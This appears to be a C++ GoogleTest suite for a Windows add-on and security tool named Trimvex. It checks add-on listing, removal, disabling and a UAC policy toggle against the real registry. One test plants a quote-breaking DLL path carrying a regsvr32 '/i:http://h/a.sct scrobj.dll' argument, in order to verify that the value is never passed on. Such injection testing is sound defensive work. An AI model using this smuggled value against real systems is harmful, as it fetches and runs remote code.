// The real Trimvex.exe over the add-on fixture in the real registry: the
// system's registry editor imports it, the program is worked from outside
// through its window, and what it shows and changes is checked against the
// registry read directly.
#include <windows.h>

#include <gtest/gtest.h>

#include <string>
#include <vector>

#include "tests/support/RegFile.h"
#include "platform/win32/Win32Registry.h"
#include "res/resource.h"
#include "tests/contract/RegistryDump.h"
#include "tests/support/ChildProcess.h"
#include "tests/support/RecordingTool.h"
#include "tests/support/RemoteListView.h"
#include "tests/support/TrimvexProcess.h"
#include "tests/support/WindowTestSupport.h"
#include "tests/support/AddonTexts.h"

namespace tv {
namespace {

using namespace testing;  // the expected add-on texts

// The browser's per-user add-on settings, each below its id.
const char kSettingsKey[] = "Software\\Microsoft\\Windows\\CurrentVersion\\Ext\\Settings\\";
const char kPolicyKey[] = "Software\\Microsoft\\Windows\\CurrentVersion\\Policies\\System";

std::string Id(int kind, int n) {
    return "{7F3A000" + std::to_string(kind) + "-5E1D-4C2B-9A10-00000000000" + std::to_string(n) + "}";
}

// ------------------------------------------------------------ registry

// Everything the fixture adds, so it can be taken away again.
void RemoveFixture() {
    Win32Registry registry;
    for (int n : {1, 2}) RegKey::Open(registry, kHkeyLocalMachine, kToolbarKey, kKeyAllAccess).DeleteValue(Id(1, n));
    RegKey::Open(registry, kHkeyCurrentUser, kHooksKey, kKeyAllAccess).DeleteValue(Id(2, 1));
    for (int n : {1, 2}) DeleteKeyTree(registry, kHkeyLocalMachine, std::string(kHelpersKey) + "\\" + Id(3, n));
    DeleteKeyTree(registry, kHkeyLocalMachine, std::string(kExtensionsKey) + "\\" + Id(4, 1));
    for (const std::string& id : {Id(1, 1), Id(1, 2), Id(2, 1), Id(3, 1), Id(3, 2)})
        DeleteKeyTree(registry, kHkeyLocalMachine, "SOFTWARE\\Classes\\CLSID\\" + id);
    for (const std::string& id : {Id(1, 1), Id(1, 2), Id(2, 1), Id(3, 1), Id(3, 2), Id(4, 1)})
        DeleteKeyTree(registry, kHkeyCurrentUser, std::string(kSettingsKey) + id);
}

// The default or named value of a key as text, read with the system's
// calls directly ("" when absent).
std::string RawText(HKEY root, const std::string& path, const char* name) {
    HKEY key = nullptr;
    if (RegOpenKeyExA(root, path.c_str(), 0, KEY_READ, &key) != ERROR_SUCCESS) return {};
    std::vector<char> data(65536, '\0');
    DWORD size = static_cast<DWORD>(data.size() - 1);
    LONG status = RegQueryValueExA(key, name, nullptr, nullptr, reinterpret_cast<BYTE*>(data.data()), &size);
    RegCloseKey(key);
    return status == ERROR_SUCCESS ? std::string(data.data()) : std::string();
}

std::vector<std::string> RawNames(HKEY root, const char* path, bool values) {
    std::vector<std::string> names;
    HKEY key = nullptr;
    if (RegOpenKeyExA(root, path, 0, KEY_READ, &key) != ERROR_SUCCESS) return names;
    for (DWORD i = 0;; ++i) {
        char name[16384];
        DWORD length = sizeof name;
        LONG status = values ? RegEnumValueA(key, i, name, &length, nullptr, nullptr, nullptr, nullptr)
                             : RegEnumKeyExA(key, i, name, &length, nullptr, nullptr, nullptr, nullptr);
        if (status != ERROR_SUCCESS) break;
        names.emplace_back(name, length);
    }
    RegCloseKey(key);
    return names;
}

// The rows the list must show, from the registry read directly: each
// location's entries, the last location first.
std::vector<std::vector<std::string>> ExpectedRows() {
    struct Source {
        HKEY root;
        const char* path;
        bool values;
        const char* type;
    } sources[] = {{HKEY_LOCAL_MACHINE, kToolbarKey, true, kToolbarType},
                   {HKEY_CURRENT_USER, kHooksKey, true, kHookType},
                   {HKEY_LOCAL_MACHINE, kHelpersKey, false, kHelperType},
                   {HKEY_LOCAL_MACHINE, kExtensionsKey, false, kExtensionType}};
    std::vector<std::vector<std::string>> rows;
    for (const Source& source : sources) {
        std::vector<std::vector<std::string>> group;
        for (const std::string& name : RawNames(source.root, source.path, source.values)) {
            if (source.type == kExtensionType) {
                std::string key = std::string(source.path) + "\\" + name;
                group.push_back({name, RawText(HKEY_LOCAL_MACHINE, key, "buttontext"), source.type,
                                 RawText(HKEY_LOCAL_MACHINE, key, "exec")});
            } else {
                std::string key = "CLSID\\" + name;
                group.push_back({name, RawText(HKEY_CLASSES_ROOT, key, ""), source.type,
                                 RawText(HKEY_CLASSES_ROOT, key + "\\InprocServer32", "")});
            }
        }
        rows.insert(rows.begin(), group.begin(), group.end());
    }
    return rows;
}

// Every key and value of the add-on locations and the fixture's classes.
std::vector<std::string> Snapshot() {
    Win32Registry registry;
    std::vector<std::string> lines;
    auto add = [&](RegHandle root, const std::string& path, const std::string& tag) {
        for (const std::string& line : tvtest::DumpTree(registry, root, path)) lines.push_back(tag + line);
    };
    add(kHkeyLocalMachine, kToolbarKey, "toolbar");
    add(kHkeyCurrentUser, kHooksKey, "hooks");
    add(kHkeyLocalMachine, kHelpersKey, "helpers");
    add(kHkeyLocalMachine, kExtensionsKey, "extensions");
    for (const std::string& id : {Id(1, 1), Id(1, 2), Id(2, 1), Id(3, 1), Id(3, 2)})
        add(kHkeyClassesRoot, "CLSID\\" + id, id);
    return lines;
}

// ------------------------------------------------------------ windows

using testing::WindowText;

std::vector<std::vector<std::string>> ListedRows(const testing::RemoteListView& list) {
    std::vector<std::vector<std::string>> rows;
    for (int i = 0; i < list.ItemCount(); ++i) {
        std::vector<std::string> row;
        for (int column = 0; column < 4; ++column) row.push_back(list.ItemText(i, column));
        rows.push_back(row);
    }
    return rows;
}

class AddonProgram : public ::testing::Test {
protected:
    void SetUp() override {
        RemoveFixture();
        before_ = Snapshot();
        Win32Registry registry;
        for (const auto& location : kLocations)
            missing_.push_back(!RegKey::Open(registry, location.first, location.second, kKeyRead));
        std::string fixture = testing::ProgramDirectory() + "fixtures\\addons.reg";
        ASSERT_EQ(RunAndWait("regedit.exe /S \"" + fixture + "\""), 0);
    }
    void TearDown() override {
        RemoveFixture();
        // Locations the import created go again (they are empty now).
        Win32Registry registry;
        for (size_t i = 0; i < missing_.size(); ++i) {
            if (missing_[i]) {
                const std::string path = kLocations[i].second;
                RegKey::Open(registry, kLocations[i].first, path.substr(0, path.rfind('\\')), kKeyAllAccess)
                    .DeleteSubKey(path.substr(path.rfind('\\') + 1));
            }
        }
        EXPECT_EQ(Snapshot(), before_);
    }
    const std::pair<RegHandle, const char*> kLocations[4] = {{kHkeyLocalMachine, kToolbarKey},
                                                             {kHkeyCurrentUser, kHooksKey},
                                                             {kHkeyLocalMachine, kHelpersKey},
                                                             {kHkeyLocalMachine, kExtensionsKey}};
    std::vector<bool> missing_;
    std::vector<std::string> before_;
};

HWND OpenAddonTab(testing::TrimvexProcess& program) {
    return program.WaitForMain() ? program.OpenTab(1015, {1060, 1065}) : nullptr;
}

// The real program with its add-on tab open and listed; a list that cannot
// be read when that could not be done.
struct AddonTab {
    testing::TrimvexProcess program;
    HWND page = OpenAddonTab(program);
    testing::RemoteListView list{GetDlgItem(page, 1060)};
};

TEST_F(AddonProgram, ListsTheRegistryAndRemovesExactlyTheTickedUnprotectedEntries) {
    std::vector<std::string> imported = Snapshot();
    std::vector<std::vector<std::string>> expected = ExpectedRows();
    AddonTab tab;
    ASSERT_TRUE(tab.list) << "the add-on tab did not open";
    testing::TrimvexProcess& program = tab.program;
    HWND page = tab.page;
    testing::RemoteListView& list = tab.list;

    // What the window lists is what the registry holds, in the same order;
    // the fixture's rows stand as their locations put them.
    std::vector<std::vector<std::string>> rows = ListedRows(list);
    EXPECT_EQ(rows, expected);
    std::vector<std::vector<std::string>> fixture = {
        {Id(4, 1), "Trimvex 按钮", kExtensionType, "C:\\Trimvex\\button.exe"},
        {Id(3, 1), "Trimvex Helper", kHelperType, "C:\\Trimvex\\helper.dll"},
        {Id(3, 2), "卡卡上网安全助手", kHelperType, "C:\\Trimvex\\kaka.dll"},
        {Id(2, 1), "Trimvex 搜索钩子", kHookType, "C:\\Trimvex\\hook.dll"},
        {Id(1, 1), "Trimvex 测试工具条", kToolbarType, "C:\\Program Files\\Trimvex Test\\toolbar.dll"},
        {Id(1, 2), "flashget bar", kToolbarType, "C:\\Trimvex\\flashget.dll"},
    };
    std::vector<std::vector<std::string>> listedFixture;
    std::vector<int> images;
    for (size_t i = 0; i < rows.size(); ++i) {
        if (rows[i][0].rfind("{7F3A000", 0) == 0) {
            listedFixture.push_back(rows[i]);
            images.push_back(list.ItemImage(static_cast<int>(i)));
        }
    }
    EXPECT_EQ(listedFixture, fixture);
    EXPECT_EQ(images, (std::vector<int>{2, 1, 1, 0, 0, 0}));

    // Tick the fixture's six rows and press "删除".
    for (size_t i = 0; i < rows.size(); ++i)
        if (rows[i][0].rfind("{7F3A000", 0) == 0) list.SetTicked(static_cast<int>(i), true);
    PostMessageA(GetDlgItem(page, 1012), BM_CLICK, 0, 0);

    std::string first, second, third;
    ASSERT_TRUE(program.NextMessageBox("Trimvex", &first));
    EXPECT_EQ(first, "瑞星卡卡安全助手,属于安全插件已经取消了卸载操作,如果要删除请在[软件卸载]中删除");
    ASSERT_TRUE(program.NextMessageBox("Trimvex", &second));
    EXPECT_EQ(second, "FlashGet 网际快车下载工具,属于必须插件已经取消了卸载操作");
    EXPECT_TRUE(program.ShowsNoMessageBox(500, &third)) << third;

    // The rescan shows what is left: the protected two, unticked.
    DWORD start = GetTickCount();
    while (list.ItemCount() != static_cast<int>(expected.size()) - 4 && GetTickCount() - start < 5000) Sleep(20);
    expected = ExpectedRows();
    EXPECT_EQ(ListedRows(list), expected);
    for (int i = 0; i < list.ItemCount(); ++i) EXPECT_FALSE(list.IsTicked(i)) << i;

    // Exactly the four registrations are gone; every other key and value,
    // the class keys included, is as imported.
    std::vector<std::string> left;
    for (const std::string& line : imported) {
        bool gone = (line.rfind("toolbar", 0) == 0 && line.find(" " + Id(1, 1) + "=") != std::string::npos) ||
                    (line.rfind("hooks", 0) == 0 && line.find(" " + Id(2, 1) + "=") != std::string::npos) ||
                    (line.rfind("helpers", 0) == 0 && line.find(Id(3, 1)) != std::string::npos) ||
                    (line.rfind("extensions", 0) == 0 && line.find(Id(4, 1)) != std::string::npos);
        if (!gone) left.push_back(line);
    }
    // The toolbar and hook values; each key with its values (1 and 3).
    EXPECT_EQ(imported.size() - left.size(), 8u);
    EXPECT_EQ(Snapshot(), left);
}

// Type and value of an add-on's Flags as stored, read with the system's
// calls: "4:1025", "missing", "no key".
std::string StoredFlags(const std::string& id) {
    HKEY key = nullptr;
    if (RegOpenKeyExA(HKEY_CURRENT_USER, (kSettingsKey + id).c_str(), 0, KEY_READ, &key) != ERROR_SUCCESS)
        return "no key";
    DWORD type = 0, value = 0, size = sizeof value;
    const LONG status = RegQueryValueExA(key, "Flags", nullptr, &type, reinterpret_cast<BYTE*>(&value), &size);
    RegCloseKey(key);
    if (status != ERROR_SUCCESS) return "missing";
    return std::to_string(type) + ":" + std::to_string(value) + (size == 4 ? "" : "/" + std::to_string(size));
}

int RowOf(const testing::RemoteListView& list, const std::string& id) {
    for (int r = 0; r < list.ItemCount(); ++r)
        if (list.ItemText(r, 0) == id) return r;
    return -1;
}

// "禁用" and "启用" in the real program: the browser's own per-user Flags
// gets its disabled bit set and cleared with its other bits kept, the
// protected add-on is refused, the rescanned list marks the disabled row,
// and no registration changes.
TEST_F(AddonProgram, DisableAndEnableSwitchTheBrowsersOwnSettingForTheTickedRows) {
    {
        HKEY key = nullptr;
        ASSERT_EQ(RegCreateKeyExA(HKEY_CURRENT_USER, (kSettingsKey + Id(3, 1)).c_str(), 0, nullptr, 0,
                                  KEY_ALL_ACCESS, nullptr, &key, nullptr),
                  ERROR_SUCCESS);
        const DWORD other = 0x400;
        RegSetValueExA(key, "Flags", 0, REG_DWORD, reinterpret_cast<const BYTE*>(&other), sizeof other);
        RegCloseKey(key);
    }
    const std::vector<std::string> imported = Snapshot();
    AddonTab tab;
    ASSERT_TRUE(tab.list) << "the add-on tab did not open";
    testing::TrimvexProcess& program = tab.program;
    HWND page = tab.page;
    testing::RemoteListView& list = tab.list;
    const std::vector<std::vector<std::string>> shown = ListedRows(list);
    for (const std::string& id : {Id(3, 1), Id(1, 1), Id(1, 2)}) {
        ASSERT_GE(RowOf(list, id), 0) << id;
        list.SetTicked(RowOf(list, id), true);
    }
    PostMessageA(GetDlgItem(page, 1066), BM_CLICK, 0, 0);
    std::string text, more;
    ASSERT_TRUE(program.NextMessageBox("Trimvex", &text));
    EXPECT_EQ(text, "flashget bar,属于必须插件,已经取消了禁用操作");
    EXPECT_TRUE(program.ShowsNoMessageBox(500, &more)) << more;

    DWORD start = GetTickCount();
    auto marked = [&] {
        const int row = RowOf(list, Id(3, 1));
        return row >= 0 && list.ItemText(row, 1) == "[已禁用] Trimvex Helper";
    };
    while (!marked() && GetTickCount() - start < 5000) Sleep(20);
    EXPECT_EQ(StoredFlags(Id(3, 1)), "4:1025");
    EXPECT_EQ(StoredFlags(Id(1, 1)), "4:1");
    EXPECT_EQ(StoredFlags(Id(1, 2)), "no key");
    // The same rows, the two switched off marked in their name cells.
    std::vector<std::vector<std::string>> expected = shown;
    for (auto& row : expected)
        if (row[0] == Id(3, 1) || row[0] == Id(1, 1)) row[1] = "[已禁用] " + row[1];
    EXPECT_TRUE(marked());
    EXPECT_EQ(ListedRows(list), expected);
    EXPECT_EQ(Snapshot(), imported);

    for (const std::string& id : {Id(3, 1), Id(1, 1)}) list.SetTicked(RowOf(list, id), true);
    PostMessageA(GetDlgItem(page, 1067), BM_CLICK, 0, 0);
    start = GetTickCount();
    while (StoredFlags(Id(1, 1)) != "no key" && GetTickCount() - start < 5000) Sleep(20);
    start = GetTickCount();
    while (marked() && GetTickCount() - start < 5000) Sleep(20);
    EXPECT_EQ(StoredFlags(Id(3, 1)), "4:1024");
    EXPECT_EQ(StoredFlags(Id(1, 1)), "no key");
    EXPECT_EQ(ListedRows(list), shown);
    EXPECT_EQ(Snapshot(), imported);
    EXPECT_TRUE(program.ShowsNoMessageBox(300, &more)) << more;
    PostMessageA(program.Main(), WM_COMMAND, MAKEWPARAM(IDC_CLOSE_BUTTON, BN_CLICKED), 0);
    EXPECT_TRUE(program.WaitForExit(10000));
}

// A folder of the user's own in PATH (see RecordingTool).
const char kUserPath[] = "C:\\TvUserPath";

// The system's registration tool, replaced by the recorder.
std::string RegistrationTool() {
    char system[MAX_PATH] = {};
    GetSystemDirectoryA(system, MAX_PATH);
    return std::string(system) + "\\regsvr32.exe";
}

// A class file whose name would break out of its quotes is never handed to
// the registration tool; a machine class's file in Program Files is, quoted
// as one argument, through the tool's full path. Both entries go.
TEST(AddonRegistration, OnlyASafeFileReachesTheToolQuotedAsOneArgument) {
    const std::string breakout = "C:\\check\\q.dll\" /n /i:http://h/a.sct scrobj.dll \"";
    const std::string safe = "C:\\Program Files\\TvRec\\rec.dll";
    const std::string ids[] = {Id(5, 1), Id(5, 2)};
    Win32Registry registry;
    struct Cleanup {
        Win32Registry& registry;
        const std::string* ids;
        ~Cleanup() {
            for (int i = 0; i < 2; ++i) {
                RegKey::Open(registry, kHkeyLocalMachine, kToolbarKey, kKeyAllAccess).DeleteValue(ids[i]);
                DeleteKeyTree(registry, kHkeyLocalMachine, "SOFTWARE\\Classes\\CLSID\\" + ids[i]);
            }
        }
    } cleanup{registry, ids};
    for (int i = 0; i < 2; ++i) {
        RegKey::Create(registry, kHkeyLocalMachine, kToolbarKey).SetString(ids[i], "");
        RegKey::Create(registry, kHkeyLocalMachine, "SOFTWARE\\Classes\\CLSID\\" + ids[i])
            .SetString("", i == 0 ? "TvRec Breakout" : "TvRec Safe");
        RegKey::Create(registry, kHkeyLocalMachine, "SOFTWARE\\Classes\\CLSID\\" + ids[i] + "\\InprocServer32")
            .SetString("", i == 0 ? breakout : safe);
    }
    testing::RecordingTool tool(RegistrationTool(), kUserPath);
    ASSERT_TRUE(tool.Ready());

    testing::TrimvexProcess program;
    ASSERT_NE(program.WaitForMain(), nullptr);
    HWND page = program.OpenTab(1015, {1060, 1065});
    ASSERT_NE(page, nullptr);
    testing::RemoteListView list(GetDlgItem(page, 1060));
    int ticked = 0;
    for (int r = 0; r < list.ItemCount(); ++r) {
        if (list.ItemText(r, 0) != ids[0] && list.ItemText(r, 0) != ids[1]) continue;
        list.SetTicked(r, true);
        ++ticked;
    }
    ASSERT_EQ(ticked, 2);
    PostMessageA(GetDlgItem(page, 1012), BM_CLICK, 0, 0);
    auto left = [&] {
        return RegKey::Open(registry, kHkeyLocalMachine, kToolbarKey, kKeyRead).ValueNames();
    };
    DWORD start = GetTickCount();
    auto gone = [&] {
        for (const std::string& name : left())
            if (name == ids[0] || name == ids[1]) return false;
        return true;
    };
    while (!(gone() && !tool.Lines().empty()) && GetTickCount() - start < 10000) Sleep(40);
    Sleep(500);  // a second start, had there been one, is recorded by now
    EXPECT_TRUE(gone());
    EXPECT_EQ(tool.Lines(), std::vector<std::string>{"\"" + tool.Tool() + "\" /u /s \"" + safe + "\""});
    // The tool got the system's variables, not this process's (the program
    // inherited a PATH with the user's folder first) nor the user's
    // settings.
    const std::vector<std::string> variables = tool.Variables();
    bool systemRoot = false, path = false;
    for (const std::string& variable : variables) {
        EXPECT_EQ(variable.find("TvUserPath"), std::string::npos) << variable;
        if (variable.rfind("SystemRoot=", 0) == 0 || variable.rfind("SYSTEMROOT=", 0) == 0) systemRoot = true;
        if (variable.size() > 5 && CompareStringA(LOCALE_INVARIANT, NORM_IGNORECASE, variable.c_str(), 5, "PATH=", 5) == CSTR_EQUAL)
            path = true;
    }
    EXPECT_TRUE(systemRoot);
    EXPECT_TRUE(path);
    PostMessageA(program.Main(), WM_COMMAND, MAKEWPARAM(IDC_CLOSE_BUTTON, BN_CLICKED), 0);
    EXPECT_TRUE(program.WaitForExit(10000));
}

// ------------------------------------------------------------ security tab

class SecurityProgram : public ::testing::Test {
protected:
    void SetUp() override {
        HKEY key = nullptr;
        ASSERT_EQ(RegCreateKeyExA(HKEY_LOCAL_MACHINE, kPolicyKey, 0, nullptr, 0, KEY_ALL_ACCESS, nullptr, &key,
                                  nullptr),
                  ERROR_SUCCESS);
        DWORD size = sizeof saved_;
        hadValue_ = RegQueryValueExA(key, "EnableLUA", nullptr, &savedType_, saved_, &size) == ERROR_SUCCESS;
        savedSize_ = size;
        RegCloseKey(key);
    }
    void TearDown() override {
        HKEY key = nullptr;
        if (RegOpenKeyExA(HKEY_LOCAL_MACHINE, kPolicyKey, 0, KEY_ALL_ACCESS, &key) != ERROR_SUCCESS) return;
        if (hadValue_)
            RegSetValueExA(key, "EnableLUA", 0, savedType_, saved_, savedSize_);
        else
            RegDeleteValueA(key, "EnableLUA");
        RegCloseKey(key);
    }
    static void SetPolicy(DWORD value) {
        HKEY key = nullptr;
        ASSERT_EQ(RegOpenKeyExA(HKEY_LOCAL_MACHINE, kPolicyKey, 0, KEY_ALL_ACCESS, &key), ERROR_SUCCESS);
        RegSetValueExA(key, "EnableLUA", 0, REG_DWORD, reinterpret_cast<BYTE*>(&value), sizeof value);
        RegCloseKey(key);
    }
    // "type:value/size" of the policy value as stored, or "missing".
    static std::string Stored() {
        HKEY key = nullptr;
        if (RegOpenKeyExA(HKEY_LOCAL_MACHINE, kPolicyKey, 0, KEY_READ, &key) != ERROR_SUCCESS) return "no key";
        DWORD type = 0, value = 0, size = sizeof value;
        LONG status = RegQueryValueExA(key, "EnableLUA", nullptr, &type, reinterpret_cast<BYTE*>(&value), &size);
        RegCloseKey(key);
        if (status != ERROR_SUCCESS) return "missing";
        return std::to_string(type) + ":" + std::to_string(value) + "/" + std::to_string(size);
    }

    bool hadValue_ = false;
    DWORD savedType_ = 0;
    DWORD savedSize_ = 0;
    BYTE saved_[64] = {};
};

TEST_F(SecurityProgram, ShowsAndSwitchesTheRealPolicy) {
    SetPolicy(1);
    testing::TrimvexProcess program;
    ASSERT_NE(program.WaitForMain(), nullptr);
    HWND page = program.OpenTab(1016, {1062, 1066});
    ASSERT_NE(page, nullptr);
    HWND status = GetDlgItem(page, 1062);
    EXPECT_EQ(WindowText(status), "【启用】");

    struct Step {
        const char* stored;
        const char* status;
    } steps[] = {{"4:0/4", "【禁用】"}, {"4:1/4", "【启用】"}};
    for (const Step& step : steps) {
        SendMessageA(GetDlgItem(page, 1012), BM_CLICK, 0, 0);
        EXPECT_EQ(Stored(), step.stored);
        EXPECT_EQ(WindowText(status), step.status);
    }

    // A change made outside shows on the next selection of the tab.
    SetPolicy(0);
    EXPECT_EQ(program.OpenTab(1016, {1062, 1066}), page);
    EXPECT_EQ(WindowText(status), "【禁用】");
}

}  // namespace
}  // namespace tv
